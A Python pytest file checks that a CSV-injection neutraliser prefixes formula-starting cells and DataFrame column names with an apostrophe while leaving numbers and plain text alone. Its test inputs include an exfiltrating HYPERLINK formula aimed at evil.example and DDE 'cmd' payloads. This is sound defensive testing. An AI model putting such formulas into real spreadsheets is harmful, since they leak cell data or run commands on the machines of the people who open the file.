"""Spreadsheet-safe cells (OWASP CSV injection): formulas from input text come out as text."""

from __future__ import annotations

import pandas as pd
import pytest

from ecocite.cells import neutralise, neutralised


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
    ],
)
def test_formula_starts_are_prefixed(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["-3.5", "+12", "-1e-3", "plain text", "a=b", "", 7, -2.5, None])
def test_numbers_and_ordinary_text_are_untouched(value: object) -> None:
    assert neutralise(value) == value


def test_frame_text_columns_only() -> None:
    frame = pd.DataFrame({"note": ["=1+1", "ok"], "value": [-1.0, 2.0], "=col": ["a", "b"]})
    out = neutralised(frame)
    assert out["note"].tolist() == ["'=1+1", "ok"]
    assert out["value"].tolist() == [-1.0, 2.0]
    assert list(out.columns) == ["note", "value", "'=col"]
    assert frame["note"].tolist() == ["=1+1", "ok"]  # the input is not changed
